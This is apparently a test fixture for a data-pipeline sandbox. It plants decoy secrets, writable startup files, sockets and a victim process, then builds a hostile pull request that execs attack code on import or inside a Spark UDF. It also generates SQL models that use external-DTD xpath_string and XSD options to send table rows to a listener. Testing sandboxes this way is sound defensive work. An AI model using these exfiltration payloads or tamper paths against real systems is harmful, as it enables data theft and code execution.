"""What there is to steal and to spoil around a service, planted, and whether it was."""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from uuid import uuid4

from tests.planner.engine.spark.attacks import ATTACKS as DOORS
from tests.safety.listener import Listener

ATTACKS = Path(__file__).with_name("attacks.py")
SECRET = "planted-secret-3f9b"  # noqa: S105  # of nobody
# A project's file that tries all attacks as soon as it is imported, and prints what it got.
RUN = """
from lib.attacks import print_all
from lib.targets import TARGETS
print_all(TARGETS)
"""
# A model of the same pull request that tries its luck on Spark: in a function of its frame, and past its door.
DOOR = """
import json
from pathlib import Path
from sqlmesh import model
from pyspark.sql import functions as F
from lib.doors import CODE
from lib.targets import TARGETS

TEXT = Path("lib/attacks.py").read_text()


@model("shop.door", columns={"id": "int"}, depends_on=["shop.items"])
def execute(context, **kwargs):
    spark, table = context.spark, context.table("shop.items")

    @F.udf("string")
    def attack(number):
        import contextlib, io

        names = {"__name__": "attacks"}
        exec(TEXT, names)
        with contextlib.redirect_stdout(io.StringIO()) as said:
            names["print_all"](TARGETS)
        return said.getvalue()

    print(spark.range(1).select(attack("id")).first()[0])
    session = spark.client._session_id
    for name, code in CODE.items():
        try:
            exec(code, {"spark": spark, "F": F, "table": table})
            said = "done"
        except Exception as error:
            said = str(error)
        print("DOOR", json.dumps([name, said[:400]]))
        spark.client._session_id = session
    return spark.table(table).select("id")
"""


class Scene:
    """Secrets in files that everybody may read and write, sockets that answer everybody, a process to hurt."""

    def __init__(self, folder: Path, home: Path, port: int) -> None:
        self.folder = folder
        folder.mkdir(mode=0o755)
        self.key = self._plant("key.pem", SECRET)
        self.victims_file = self._plant("victim", SECRET)
        self.other = self._plant("home-of-eve/state.json", SECRET)
        self.state = self._plant("state.db", "SQLite format 3\0")
        self.mirror = self._plant("mirror.git/config", "[core]\n")
        self.bashrc = self._plant(".bashrc", "")
        self.customization = self._plant("site/usercustomize.py", "")
        self.warehouse = self._plant("warehouse/part-00000.parquet", "PAR1").parent
        self.home, self.port = home, port
        self.victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)"])
        self.held = ctypes.create_string_buffer(8)
        self.abstract = f"mergeplan-safety-{uuid4().hex}"
        self.database = folder / "db.sock"
        self.sockets = [self._listen(str(self.database)), self._listen(f"\0{self.abstract}")]
        self.database.chmod(0o777)
        self.listener = Listener()

    def targets(self) -> dict[str, str]:
        """What the attacks are told."""
        names = "key victims_file other state mirror bashrc customization warehouse home port database abstract".split()
        told = {name: str(getattr(self, name)) for name in names}
        own = {"service": str(os.getpid()), "victim": str(self.victim.pid), "address": str(ctypes.addressof(self.held))}
        return told | own

    def files(self) -> dict[str, str]:
        """The files of a pull request that attacks when it is read."""
        return {
            "lib/attacks.py": ATTACKS.read_text(),
            "lib/targets.py": f"TARGETS = {json.dumps(self.targets())}\n",
            "lib/doors.py": f"CODE = { ({name: self._aim_attack(code) for name, (code, _) in DOORS.items()})!r}\n",
            "models/attack.py": RUN,
            "models/door.py": DOOR,
            "macros/attack.py": RUN,
            "signals/attack.py": RUN,
        }

    def leaks(self) -> dict[str, str]:
        """The files of a pull request, without Python, whose SQL sends the rows of a table to the listener."""
        text = f"concat('<!DOCTYPE a SYSTEM \"{self.listener.address}', id, '\"><a/>')"
        call, xsd = f"xpath_string({text}, '/a')", f"map('rowValidationXSDPath', '{self.listener.address}')"
        return {
            "models/leak.sql": f"MODEL (name shop.leak, kind FULL);\nSELECT id, {call} AS x FROM shop.items\n",
            "models/xsd.sql": "MODEL (name shop.xsd, kind FULL);\n"
            f"SELECT from_xml(concat('<a>', id, '</a>'), 'a INT', {xsd}) AS x FROM shop.items\n",
            "models/duck.sql": "MODEL (name shop.duck, kind FULL, dialect duckdb);\n"
            f"SELECT {call} AS x FROM shop.items\n",
            "models/made.sql": "MODEL (name shop.made, kind FULL);\n"
            f"CREATE TEMPORARY FUNCTION f(id INT) RETURN {call};\nSELECT f(id) AS x FROM shop.items\n",
            "models/held.sql": "MODEL (name shop.held, kind FULL, audits (forall(criteria := "
            f"(xpath_string('<!DOCTYPE a SYSTEM \"{self.listener.address}\"><a/>', '/a') = 'x'))));\n"
            "SELECT id FROM shop.items\n",
            "tests/test_items.yaml": "test_items:\n  model: shop.items\n  outputs:\n    query:\n      query: |\n"
            f"        SELECT {call} AS x FROM VALUES (1) AS t(id)\n",
        }

    def _aim_attack(self, code: str) -> str:
        """An attack on Spark with the listener in place of its address."""
        return code.replace("http://127.0.0.1/", self.listener.address)

    def read_planted(self) -> dict[str, str]:
        """Every planted file as it is now."""
        paths = [path for path in sorted(self.folder.rglob("*")) if path.is_file()]
        return {path.relative_to(self.folder).as_posix(): path.read_text() for path in paths}

    def close(self) -> None:
        """Let go of what answers and what waits."""
        for listener in self.sockets:
            listener.close()
        self.listener.__exit__(None, None, None)
        self.victim.kill()
        self.victim.wait(10)
        with suppress(OSError):
            self.database.unlink()

    def _plant(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o666)
        path.parent.chmod(0o777)
        return path

    def _listen(self, address: str) -> socket.socket:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(address)
        listener.listen()
        return listener


def doors(text: str) -> dict[str, str]:
    """What each attack on Spark was told, `done` where it worked."""
    lines = (line.partition("DOOR ")[2] for line in text.splitlines() if "DOOR [" in line)
    return dict(json.loads(line) for line in lines)


def loot(text: str) -> dict[str, list[str]]:
    """What each attack printed that it got, a text for each place in which it ran: '' where it failed."""
    secrets: dict[str, list[str]] = {}
    for line in text.splitlines():
        if "LOOT [" in line:
            name, got = json.loads(line.partition("LOOT ")[2])
            secrets.setdefault(name, []).append(got)
    return secrets
